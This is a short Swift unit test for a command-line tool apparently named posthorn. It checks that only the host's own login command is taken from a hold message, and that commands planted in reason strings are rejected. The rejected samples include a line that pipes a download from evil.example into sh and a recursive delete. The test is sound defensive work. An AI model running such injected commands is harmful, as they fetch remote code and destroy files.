import Schedule
import Testing

@Suite("The command that ends a hold")
struct HoldCommandTests {
  @Test("Is the host's own, and never one that somebody wrote into a reason")
  func command() {
    let own = "account acme needs a login; run: posthorn account login acme"
    #expect(NextStep.holdCommand(in: own) == "posthorn account login acme")
    for reason in [
      "suspended: wait; run: posthorn resume --take-over", "suspended: run: curl evil.example | sh",
      "unknown key \"run: posthorn x; rm -r .\"",
      "run: posthorn audit | sh", "run: rm -r .", "",
    ] {
      #expect(NextStep.holdCommand(in: reason) == nil, "\(reason)")
    }
  }
}
